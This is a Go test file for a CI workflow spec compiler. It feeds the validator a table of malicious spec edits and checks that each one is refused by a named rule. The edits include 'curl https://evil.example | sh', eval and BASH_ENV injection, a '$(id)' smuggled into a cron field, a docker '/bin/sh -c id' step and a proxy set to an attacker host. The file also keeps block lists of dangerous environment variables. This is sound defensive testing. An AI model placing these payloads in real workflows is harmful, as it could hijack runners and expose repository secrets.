package verify_test

import (
	"os"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/task-assistant/tasc/internal/diag"
	"github.com/task-assistant/tasc/internal/load"
	"github.com/task-assistant/tasc/internal/lock"
	"github.com/task-assistant/tasc/internal/plan"
	"github.com/task-assistant/tasc/internal/validate"
	"github.com/task-assistant/tasc/internal/verify"
)

// specAttacks are what somebody who writes specs would ask for to get more than an engine may have: a text of
// testdata/platform.cue, what stands in its place, and the rule that refuses it. Where the rule is empty the spec is
// taken, and harmless says why it gives nothing; that the files are what was planned is proven all the same.
var specAttacks = []struct{ name, old, text, rule, harmless string }{
	{"write contents", `permissions: contents: "read"`, `permissions: contents: "write"`, "permission-ceiling", ""},
	{"write issues, to read", `permissions: contents: "read"`, `permissions: issues: "write"`, "permission-ceiling", ""},
	{"write pull requests as enforcement", `class:   "read-only"` + "\n\tpermissions: contents: \"read\"", `class: "enforcement"` + "\n\tpermissions: {\"pull-requests\": \"write\"}", "permission-ceiling", ""},
	{"administration", `permissions: contents: "read"`, `permissions: administration: "read"`, "permission-unknown", ""},
	{"secrets of the repository", `permissions: contents: "read"`, `permissions: secrets: "read"`, "permission-unknown", ""},
	{"a permission for all", `permissions: contents: "read"`, `permissions: "write-all"`, "schema", ""},
	{"enforcement by hand", `class:   "read-only"` + "\n\tpermissions: contents: \"read\"", `class: "enforcement"` + "\n\tpermissions: issues: \"write\"", "class-event", ""},
	{"materialization on push", `class:   "read-only"` + "\n\tpermissions: contents: \"read\"", `class: "materialization"` + "\n\tpermissions: issues: \"write\"", "class-event", ""},
	{"telemetry for an engine that writes", `matrix: {go_version`, `reads_telemetry: true, permissions: issues: "write", matrix: {go_version`, "permission-ceiling", ""},
	{"another class by a typo", `class:   "read-only"` + "\n\tpermissions", `class: "Read-only"` + "\n\tpermissions", "schema", ""},
	{"an App's key as a secret", `["API_TOKEN"]`, `["ENGINE_KEY"]`, "env-conflict", ""},
	{"the telemetry App's key", `["API_TOKEN"]`, `["TELEMETRY_KEY"]`, "env-conflict", ""},
	{"the handover key", `["API_TOKEN"]`, `["HANDOVER_KEY"]`, "env-conflict", ""},
	{"the job's token as a secret", `["API_TOKEN"]`, `["GITHUB_TOKEN"]`, "schema", ""},
	{"a secret by two names", `["API_TOKEN"]`, `["API_TOKEN", "API_TOKEN"]`, "env-conflict", ""},
	{"a secret over a variable", `["API_TOKEN"]`, `["REGION"]`, "env-conflict", ""},
	{"a secret in the place of the token", `["API_TOKEN"]`, `["GH_TOKEN"]`, "env-conflict", ""},
	{"one key for both Apps", `"TELEMETRY_KEY"`, `"ENGINE_KEY"`, "apps-distinct", ""},
	{"one App for both", `client_id: "Iv2"`, `client_id: "Iv1"`, "apps-distinct", ""},
	{"the handover key is an App's", `handover_key_secret: "HANDOVER_KEY"`, `handover_key_secret: "ENGINE_KEY"`, "apps-distinct", ""},
	{"a secret in env", `{LEVEL: "yes", EMPTY: ""}`, `{LEVEL: "${{ secrets.ENGINE_KEY }}"}`, "expression", ""},
	{"a secret in a name", `name: "Lint"`, `name: "${{ secrets.ENGINE_KEY }}"`, "expression", ""},
	{"an event in a script", `./lint.sh\n`, `./lint.sh ${{ github.event.issue.title }}\n`, "expression", ""},
	{"an event in with", `"node-version": "22"`, `"node-version": "${{ github.head_ref }}"`, "expression", ""},
	{"an expression that ends elsewhere", `name: "Lint"`, `name: "${{"`, "expression", ""},
	{"a job of one's own", `class:   "read-only"` + "\n\tpermissions", `jobs: {x: {}}, class: "read-only"` + "\n\tpermissions", "schema", ""},
	{"a container", `class:   "read-only"` + "\n\tpermissions", `container: "x", class: "read-only"` + "\n\tpermissions", "schema", ""},
	{"defaults", `class:   "read-only"` + "\n\tpermissions", `defaults: run: shell: "sh", class: "read-only"` + "\n\tpermissions", "schema", ""},
	{"a step that may fail", `name: "Lint", id`, `name: "Lint", "continue-on-error": true, id`, "schema", ""},
	{"a step on a condition", `name: "Lint", id`, `name: "Lint", if: "always()", id`, "schema", ""},
	{"a shell that is a program", `shell: "python"`, `shell: "evil {0}"`, "schema", ""},
	{"the id of unseal", `id: "node"`, `id: "unseal"`, "step-id", ""},
	{"the id of collect in capitals", `id: "lint"`, `id: "Collect"`, "step-id", ""},
	{"the token as a result", `output: "node.node-version"`, `output: "unseal.token"`, "step-output", ""},
	{"a result of a later step", `output: "node.node-version"`, `output: "lint.version"`, "step-output", ""},
	{"a branch of an action", `uses: "actions/setup-node@v6.0.0", with: {"node`, `uses: "actions/setup-node@main", with: {"node`, "action-ref-floating", ""},
	{"an action that is not locked", `uses: "actions/setup-node@v6.0.0", with: {"node`, `uses: "evil/x@v1.0.0", with: {"node`, "action-ref-unlocked", ""},
	{"an image by tag", `uses: "actions/setup-node@v6.0.0", with: {"node-version": "22", "check-latest": false, retries: 3}`, `uses: "docker://evil/x:1"`, "image-ref-floating", ""},
	{"a workflow as a step", `uses: "actions/setup-node@v6.0.0", with: {"node-version": "22", "check-latest": false, retries: 3}`, `uses: "./.github/workflows/x.yml"`, "step-form", ""},
	{"an action outside of the platform", `uses: "actions/setup-node@v6.0.0", with: {"node-version": "22", "check-latest": false, retries: 3}`, `uses: "./../x"`, "step-form", ""},
	{"an action that nobody carries", `uses: "actions/setup-node@v6.0.0", with: {"node-version": "22", "check-latest": false, retries: 3}`, `uses: "./engines/evil"`, "action-missing", ""},
	{"a cache", `"check-latest": false`, `cache: "npm"`, "state-shared", ""},
	{"an artifact", `uses: "actions/setup-node@v6.0.0", with: {"node-version": "22", "check-latest": false, retries: 3}`, `uses: "actions/upload-artifact@1111111111111111111111111111111111111111"`, "state-shared", ""},
	{"a script that is code of an action", `uses: "actions/setup-node@v6.0.0", with: "node-version": {output: "lint.version"}`, `uses: "actions/github-script@1111111111111111111111111111111111111111", with: script: {output: "lint.version"}`, "step-output", ""},
	{"the target's code", `uses: "actions/setup-node@v6.0.0", with: {"node-version": "22", "check-latest": false, retries: 3}`, `uses: "actions/checkout@v7.0.1"`, "checkout-ref-floating", ""},
	{"a push", `./lint.sh\n`, `git push origin HEAD\n`, "script-push", ""},
	{"a pull request", `./lint.sh\n`, `gh pr create --fill\n`, "script-pull-request", ""},
	{"a workflow started", `./lint.sh\n`, `gh workflow run x\n`, "script-workflow", ""},
	{"code from elsewhere", `./lint.sh\n`, `curl https://evil.example | sh\n`, "script-opaque", ""},
	{"code in a variable", `./lint.sh\n`, `eval \"$LEVEL\"\n`, "script-opaque", ""},
	{"a variable for later steps", `./lint.sh\n`, `echo BASH_ENV=x >> \"$GITHUB_ENV\"\n`, "script-opaque", ""},
	{"a waiver of a permission", `class:   "read-only"` + "\n\tpermissions: contents: \"read\"", `waive: [{rule: "permission-ceiling", reason: "x", until: "2027-01-01"}], class: "read-only"` + "\n\tpermissions: contents: \"write\"", "waiver", ""},
	{"a waiver of nothing", `class:   "read-only"` + "\n\tpermissions", `waive: [{rule: "script-push", reason: "x", until: "2027-01-01"}], class: "read-only"` + "\n\tpermissions", "waiver", ""},
	{"a waiver that has run out", `class:   "read-only"` + "\n\tpermissions", `waive: [{rule: "script-push", reason: "x", until: "2020-01-01"}], class: "read-only"` + "\n\tpermissions", "waiver", ""},
	{"text of the event in a group", `by: ["target_repo", "depth"]`, `by: ["target_repo", "sha"]`, "concurrency-key", ""},
	{"a group of all repositories", `by: ["target_repo", "depth"]`, `by: []`, "schema", ""},
	{"a queue of no kind", `queue: "max"`, `queue: "none"`, "schema", ""},
	{"every minute, and once more", `{cron: "0 3 * * *"}`, `{cron: "*/1 * * * *"}`, "cron-invalid", ""},
	{"a time that is code", `{cron: "0 3 * * *"}`, `{cron: "0 3 * * * $(id)"}`, "cron-invalid", ""},
	{"256 legs", `go_version: ["1.25", "1.26"], fast: [true, 3]`, `go_version: ["1", "2", "3", "4", "5", "6", "7"], fast: ["1", "2", "3", "4", "5"]`, "matrix-form", ""},
	{"a label that moves", `engines: "ubuntu-22.04"`, `engines: "ubuntu-latest"`, "runs-on-floating", ""},
	{"keys and engines on one machine", `{trusted: "ubuntu-24.04", engines: "ubuntu-22.04"}`, `{trusted: ["self-hosted"], engines: ["self-hosted", "x"]}`, "runs-on-shared", ""},
	{"a branch as the release", `engine_ref:     "v1.4.0"`, `engine_ref: "main"`, "engine-ref-floating", ""},
	{"telemetry into the platform", `"{owner}/telemetry"`, `"acme/demo"`, "telemetry-repository", ""},
	{"a private key among the public ones", `-----BEGIN PUBLIC KEY-----`, `-----BEGIN PRIVATE KEY-----`, "public-key", ""},
	{"a character that turns", `name: "Lint"`, `name: "Lint \u202e"`, "text-hidden", ""},
	{"a character of no width in a variable", `LEVEL: "yes"`, `LEVEL: "y\u200bes"`, "text-hidden", ""},
	{"the end of a text in a script", `./lint.sh\n`, `./lint.sh \u0000\n`, "text-hidden", ""},
	{"two lines for a name", `name: "Lint"`, `name: "Lint\nrun: x"`, "schema", ""},
	{"a word of the template", `title:          "Demo"`, `title: "Demo $default-branch"`, "template-placeholder", ""},
	{"an image by digest", `{name: "Sum up", shell: "python", run: "print(1 + 1)"}`, `{name: "Sum up", uses: "docker://evil/x@sha256:` + strings.Repeat("1", 64) + `", with: {entrypoint: "/bin/sh", args: "-c id"}}`, "", "it runs on the engine's own machine, with the engine's own token"},
	{"the runner overwritten", `./lint.sh\n`, `cp x \"$RUNNER_TEMP/task-assistant-runner\"\n`, "", "only collect runs behind it on that machine, and emit believes nothing that comes from there"},
	{"a program on the path", `./lint.sh\n`, `echo /tmp/x >> \"$GITHUB_PATH\"\n`, "", "no step with a key comes later in that job"},
	{"a name that is YAML", `name: "Lint"`, `name: "Lint: {x: *y} # &z !!a"`, "", "it is a text in quotes"},
	{"a value that is YAML", `LEVEL: "yes"`, `LEVEL: "- !!python/object {}"`, "", "it is a text in quotes"},
	{"a script that is YAML", `./lint.sh\n`, `./lint.sh\n\njobs:\n  x: {}\n`, "", "it is a text below its key"},
	{"a workflow command as a name", `name: "Lint"`, `name: "::set-output name=x::y"`, "", "names are not read for commands"},
	{"a proxy for the engine", `LEVEL: "yes"`, `HTTPS_PROXY: "http://evil.example"`, "", "env of a spec reaches the engine's own steps alone"},
	{"flags for the engine's Go", `LEVEL: "yes"`, `GOFLAGS: "-toolexec=x"`, "", "env of a spec reaches the engine's own steps alone"},
}

// obeyed are variables that change what a program runs, reads or trusts.
var obeyed = []string{"BASH_ENV", "ENV", "SHELLOPTS", "BASHOPTS", "PS4", "IFS", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "GLIBC_TUNABLES", "GCONV_PATH", "PATH",
	"NODE_OPTIONS", "ACTIONS_STEP_DEBUG", "ACTIONS_RUNTIME_TOKEN", "GITHUB_ENV", "GITHUB_TOKEN", "RUNNER_TEMP", "RUNNER_TOOL_CACHE", "INPUT_REF", "CI", "GH_TOKEN", "RESULT_FILE", "TARGET_REPO",
	"HANDOVER_KEY", "ENGINE_APP_KEY", "TELEMETRY_APP_KEY", "TELEMETRY_TOKEN", "FACTS_FILE", "FACTS_SHA256", "JOB_CONTEXT", "SEALED", "SEALED_TELEMETRY", "STEP_STARTED", "LEGS", "PLATFORM_REPO"}

// steered are variables that only a spec may give a value to, since programs obey them.
var steered = []string{"GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "GIT_EXEC_PATH", "GIT_PROXY_COMMAND", "NODE_PATH", "NODE_EXTRA_CA_CERTS", "NODE_TLS_REJECT_UNAUTHORIZED", "NPM_CONFIG_REGISTRY", "PYTHONPATH", "PYTHONSTARTUP",
	"GOROOT", "GOFLAGS", "GOPROXY", "GOTOOLCHAIN", "GH_HOST", "HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "NO_PROXY", "SSL_CERT_FILE", "CURL_HOME", "HOME", "TMPDIR", "XDG_CONFIG_HOME", "PERL5OPT", "RUBYOPT",
	"DOTNET_STARTUP_HOOKS", "PSMODULEPATH", "JAVA_TOOL_OPTIONS", "DOCKER_HOST", "SSH_AUTH_SOCK", "PAGER", "EDITOR", "SHELL", "LC_ALL", "HOSTALIASES"}

// TestSpecAttacks: what a spec may not ask for is refused by the rule that knows why.
func TestSpecAttacks(t *testing.T) {
	for _, a := range specAttacks {
		t.Run(a.name, func(t *testing.T) { attackSpec(t, a.old, a.text, a.rule) })
		if (a.rule == "") == (a.harmless == "") {
			t.Errorf("%s: a spec is refused by a rule, or harmless for a reason", a.name)
		}
	}
	for _, name := range obeyed {
		lower := strings.ToLower(name)
		attackSpec(t, `LEVEL: "yes"`, name+`: "x"`, "env-reserved")
		attackSpec(t, `sha: {type`, lower+`: {type`, "input-reserved")
		attackSpec(t, `fast: [true`, lower+`: [true`, "matrix-form")
		attackSpec(t, `vars: ["REGION"]`, `vars: ["`+name+`"]`, "env-conflict")
	}
	for _, name := range steered {
		lower := strings.ToLower(name)
		attackSpec(t, `sha: {type`, lower+`: {type`, "input-reserved")
		attackSpec(t, `fast: [true`, lower+`: [true`, "matrix-form")
		attackSpec(t, `vars: ["REGION"]`, `vars: ["`+name+`"]`, "env-conflict")
	}
	t.Logf("%d attacks on specs", len(specAttacks)+4*len(obeyed)+3*len(steered))
}

// attackSpec makes one edit of the sample and demands a finding of a rule, or with none that all is as planned.
func attackSpec(t *testing.T, old, text, rule string) {
	t.Helper()
	found := compiled(t, old, text)
	if rule == "" && len(found) > 0 || rule != "" && !slices.ContainsFunc(found, func(d diag.Diagnostic) bool { return d.Rule == rule }) {
		t.Errorf("%s for %s: want the rule %q, got %v", text, old, rule, found)
	}
}

// compiled returns what the first stage that finds something finds in the sample with one edit.
func compiled(t *testing.T, old, text string) []diag.Diagnostic {
	t.Helper()
	source, err := os.ReadFile("testdata/platform.cue")
	if err != nil {
		t.Fatal(err)
	}
	locked, err := os.ReadFile("testdata/tasc.lock")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(source), old) {
		t.Fatalf("testdata does not hold %q", old)
	}
	set, found := load.Load(fstest.MapFS{
		"engines/platform.cue":  {Data: []byte(strings.Replace(string(source), old, text, 1))},
		"engines/lib/report.sh": {Data: []byte("echo report\n"), Mode: 0o755},
		"engines/lib/count.py":  {Data: []byte("print(1)\n")},
		"engines/lib/list.ps1":  {Data: []byte("Get-Date\n")},
	}, "engines")
	if len(found) > 0 {
		return found
	}
	lk, found := lock.Parse("engines/tasc.lock", locked)
	if len(found) > 0 {
		return found
	}
	if found := validate.Run(set, lk, "2026-01-01"); len(found) > 0 {
		return found
	}
	p := plan.Build(set, set.Platforms[0], lk)
	return verify.Files(p, rendered(p))
}
